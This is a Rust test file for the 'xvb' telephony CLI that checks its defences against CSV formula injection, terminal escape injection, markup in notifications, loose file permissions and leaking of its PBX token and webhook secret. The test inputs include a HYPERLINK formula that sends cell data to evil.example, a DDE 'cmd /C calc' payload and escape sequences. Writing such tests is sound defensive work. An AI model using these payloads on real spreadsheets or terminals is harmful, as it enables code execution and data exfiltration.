//! What the product writes and shows, against text from outside and other
//! users of the machine: formulas in the CSV export (read back with Python's
//! `csv`), escape sequences from a contact file or an old database in the
//! CLI's output, file modes under umask 022, markup in a pop on a recorded D-Bus
//! session, the PBX token refused to a plain-http address, and secrets kept
//! out of what `xvb` prints.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;
use xvb_core::pbx::sim::SimCall;
use xvb_core::store::Writer;
use xvb_e2e::agent::{xvb_bin, Agent, Served};
use xvb_e2e::desktop::notifications::{BusCall, NotificationRecorder};
use xvb_e2e::desktop::page::WAIT;
use xvb_e2e::desktop::session::DbusSession;
use xvb_e2e::desktop::take_turn;
use xvb_e2e::history::{read_csv, store_answered_call};
use xvb_e2e::pbx::{
    call_from_known_caller, post_answered_call, post_to_webhook, serve_recording, FakePbx,
};
use xvb_e2e::process::block_on;

/// `xvb ARGS` on `agent`'s data dir, started under umask 022 (other users may read what it creates).
fn under_umask_022(agent: &Agent, args: &[&str]) -> Command {
    let mut command = Command::new("sh");
    command
        .args(["-c", "umask 022 && exec \"$0\" \"$@\""])
        .arg(xvb_bin())
        .args(args)
        .env("XVB_DATA_DIR", agent.dir.path())
        .env_remove("XVB_TOKEN");
    command
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path)
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()))
        .permissions()
        .mode()
        & 0o777
}

/// Posts a call from `phone` that 100 answered, `seconds` long, with a recording `link`.
fn talk(served: &Served, callid: &str, phone: &str, link: Option<&str>) {
    let call = SimCall {
        phone: phone.into(),
        ..call_from_known_caller(callid, "100")
    };
    block_on(post_answered_call(&served.webhook, &call, 2, link));
}

/// `xvb history --csv` as Python's `csv` module reads it: one object per row.
fn exported_rows(agent: &Agent) -> Vec<serde_json::Value> {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("history.csv");
    let path = path.to_str().unwrap();
    agent.ok(&["history", "--csv", path]);
    read_csv(Path::new(path), ',')
}

#[test]
fn formulas_from_a_crm_export_or_the_pbx_are_text_in_the_csv() {
    let agent = Agent::new("100");
    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Вася\")";
    let book = agent.dir.path().join("crm.csv");
    std::fs::write(
        &book,
        format!(
            "name,phone\n\"{}\",+7 (920) 111-96-13\n",
            formula.replace('"', "\"\"")
        ),
    )
    .unwrap();
    agent.ok(&["contacts", "import", book.to_str().unwrap()]);
    let served = agent.serve();
    talk(&served, "CSV-1", "+7 (920) 111-96-13", None);
    let cmd = "-2+3+cmd|' /C calc'!A0";
    talk(&served, "CSV-2", cmd, None);

    let rows = exported_rows(&agent);
    let row = |callid: &str| {
        rows.iter()
            .find(|r| r["Call ID"] == callid)
            .unwrap_or_else(|| panic!("no {callid}: {rows:#?}"))
    };
    assert_eq!(row("CSV-1")["Contact"], format!("'{formula}"));
    assert_eq!(
        row("CSV-1")["Number"],
        "+7 (920) 111-96-13",
        "a phone number stays a number"
    );
    assert_eq!(row("CSV-2")["Number"], format!("'{cmd}"));
}

#[test]
fn escape_sequences_from_a_contact_file_or_an_old_database_never_reach_the_terminal() {
    let agent = Agent::new("100");
    let book = agent.dir.path().join("book.csv");
    std::fs::write(
        &book,
        "name,phone\n\
         Вася,+7 920\u{1b}[2J111-96-14\n\
         \"\u{1b}]0;pwned\u{7}Петя\u{1b}[2J\",79201119613\n",
    )
    .unwrap();
    let imported = agent.run(&["contacts", "import", book.to_str().unwrap()]);
    assert!(imported.status.success());
    let report = String::from_utf8_lossy(&imported.stderr);
    assert!(
        report.contains("book.csv:3: imported without the control characters in its name"),
        "{report}"
    );
    let list = agent.ok(&["contacts", "list"]);
    assert!(list.contains(" ]0;pwnedПетя[2J "), "{list}");
    assert!(list.contains("+7 920\\u{1b}[2J111-96-14"), "{list}");

    // A caller ID with an escape sequence, as a version before the listener's
    // checks may have stored it.
    let spoofed = call_from_known_caller("ESC-1", "100");
    let spoofed = SimCall {
        phone: "\u{1b}]0;pwned\u{7}79201119613".into(),
        ..spoofed
    };
    let writer = Writer::start(&agent.dir.path().join("xvb.sqlite3")).unwrap();
    block_on(store_answered_call(&writer, &spoofed, 5, None, None));
    drop(writer);
    let history = agent.ok(&["history"]);
    assert!(
        history.contains("\\u{1b}]0;pwned\\u{7}79201119613"),
        "{history}"
    );
    for printed in [&list, &history] {
        assert!(
            !printed.contains(['\u{1b}', '\u{7}']),
            "a control character reached the terminal: {printed:?}"
        );
    }
}

#[test]
fn under_umask_022_the_data_dir_database_recordings_and_exports_are_private() {
    let agent = Agent::new("100");
    let dir = agent.dir.path();
    let body: Vec<u8> = (0..16_000).map(|i| (i * 131 % 251) as u8).collect();
    let (port, _) = serve_recording(body, Default::default());
    agent.ok(&[
        "config",
        "set",
        "pbx_url",
        &format!("http://127.0.0.1:{port}/crm-api"),
    ]);
    // As an earlier version left it.
    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();

    let mut served = Served::start(under_umask_022(&agent, &["serve"]), "listening on http://");
    served.webhook = agent.unmasked(&served.webhook);
    let link = format!("http://127.0.0.1:{port}/ui/msg_download/MODE-1.g722");
    talk(&served, "MODE-1", "79201119613", Some(&link));
    assert!(
        served.logs().iter().any(|l| l.contains(
            "the data dir was readable by other users of this computer; it is this user's only now"
        )),
        "{:#?}",
        served.logs()
    );

    let exports = tempfile::tempdir().unwrap();
    let (csv, wav) = (exports.path().join("h.csv"), exports.path().join("r.wav"));
    for args in [
        vec!["history", "--csv", csv.to_str().unwrap()],
        vec!["recording", "export", "MODE-1", wav.to_str().unwrap()],
    ] {
        let out = under_umask_022(&agent, &args).output().unwrap();
        assert!(out.status.success(), "{args:?}: {out:?}");
    }
    let files = [
        ("xvb.sqlite3", 0o600),
        ("xvb.sqlite3-wal", 0o600),
        ("xvb.sqlite3-shm", 0o600),
        ("config.toml", 0o600),
        ("recordings", 0o700),
        ("recordings/MODE-1.g722", 0o600),
    ];
    let mut modes: Vec<(String, u32)> = vec![("data dir".into(), mode(dir))];
    modes.extend(
        files
            .iter()
            .map(|(name, _)| (name.to_string(), mode(&dir.join(name)))),
    );
    modes.extend([
        ("CSV export".into(), mode(&csv)),
        ("WAV export".into(), mode(&wav)),
    ]);
    let mut wanted: Vec<(String, u32)> = vec![("data dir".into(), 0o700)];
    wanted.extend(files.iter().map(|(name, m)| (name.to_string(), *m)));
    wanted.extend([("CSV export".into(), 0o600), ("WAV export".into(), 0o600)]);
    assert_eq!(modes, wanted);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn markup_from_a_caller_or_a_note_is_text_in_the_pop() {
    let _turn = take_turn();
    let session = DbusSession::bare();
    let recorder = NotificationRecorder::start(&session.address).await;
    let agent = Agent::with_env("100", session.env());
    let name = "<a href=\"x\">Рога & копыта</a>";
    agent.ok(&["contacts", "add", "--name", name, "--phone", "79201119613"]);
    let served = agent.spawn(&["serve", "--notify"], "listening on http://");
    let first = call_from_known_caller("MARKUP-1", "100");
    post_answered_call(&served.webhook, &first, 5, None).await;
    agent.ok(&[
        "note",
        "MARKUP-1",
        "--text",
        "<b>VIP</b> & <a href=\"x\">co</a>",
    ]);

    let again = SimCall {
        callid: "MARKUP-2".into(),
        ..first
    };
    post_to_webhook(&served.webhook, &again.incoming(), None).await;
    let ring = recorder
        .wait_for(
            WAIT,
            "the ring of MARKUP-2",
            |c| matches!(c, BusCall::Notify { body, .. } if body.contains("Last:")),
        )
        .await;
    let BusCall::Notify { summary, body, .. } = ring else {
        unreachable!()
    };
    // The summary is plain text by the spec: sent as written, drawn as written.
    assert_eq!(summary, format!("Incoming call: {name}"));
    // The body is markup on this server (it says `body-markup`): escaped.
    assert!(
        body.contains("&lt;b&gt;VIP&lt;/b&gt; &amp; &lt;a href=\"x\"&gt;co&lt;/a&gt;"),
        "{body}"
    );
    assert!(!body.contains('<'), "{body}");
}

#[test]
fn the_pbx_token_never_goes_to_a_plain_http_address() {
    let agent = Agent::new("100");
    let refused = agent.fails(&["config", "set", "pbx_url", "http://pbx.example/crm"]);
    assert!(
        refused.contains("pbx_url must be the PBX's https:// address")
            && refused.contains("readable by anyone on the way"),
        "{refused}"
    );
    agent.ok(&["config", "set", "pbx_url", "https://pbx.example/crm"]);

    // A proxy on loopback sees every request for pbx.example: over https only a
    // CONNECT (the token inside TLS); a plain-http address that an older version
    // accepted gets nothing at all.
    let proxy = FakePbx::start(Some("HTTP/1.1 200 Connection established\r\n\r\n"));
    let proxy_url = proxy.url.trim_end_matches("/crm").to_owned();
    let call = |agent: &Agent| {
        agent
            .command(&["call", "79001112233"])
            .env("XVB_TOKEN", "secret-token")
            .env("http_proxy", &proxy_url)
            .env("https_proxy", &proxy_url)
            .env_remove("no_proxy")
            .env_remove("NO_PROXY")
            .env_remove("all_proxy")
            .env_remove("ALL_PROXY")
            .output()
            .unwrap()
    };
    assert!(!call(&agent).status.success(), "no PBX behind the proxy");
    let seen = proxy.requests();
    assert!(
        seen.len() == 1 && seen[0].starts_with("CONNECT pbx.example:443"),
        "{seen:#?}"
    );
    agent.write_setting("pbx_url", "http://pbx.example/crm");
    let out = call(&agent);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success());
    assert!(
        stderr.contains("refused to send the PBX token over plain http:// to pbx.example"),
        "{stderr}"
    );
    std::thread::sleep(std::time::Duration::from_millis(200));
    assert_eq!(proxy.requests().len(), 1, "nothing more was sent");
}

#[test]
fn serve_hides_the_webhook_secret_and_a_join_code_on_the_command_line_is_warned_about() {
    let agent = Agent::new("100");
    let whole = agent.ok(&["webhook-url"]).trim().to_owned();
    let secret = &whole[whole.find("/hook/").unwrap() + "/hook/".len()..];
    assert!(secret.len() >= 32, "{whole}");
    let mut served = Served::start(agent.command(&["serve"]), "listening on http://");
    let printed = served.webhook.clone();
    assert!(
        printed.contains(&format!("/hook/{}•••", &secret[..2]))
            && printed.contains("`xvb webhook-url` prints it whole"),
        "{printed}"
    );
    served.kill();
    let everything = served.logs().join("\n") + &printed;
    assert!(!everything.contains(secret), "{everything}");

    let code = "http://127.0.0.1:9#relay-token-of-100";
    let stderr = agent.fails(&["call", "--relay", code, "79001112233"]);
    assert!(
        stderr.contains("visible to other users of this computer (`ps` shows command lines)")
            && stderr.contains("set XVB_RELAY instead"),
        "{stderr}"
    );
}
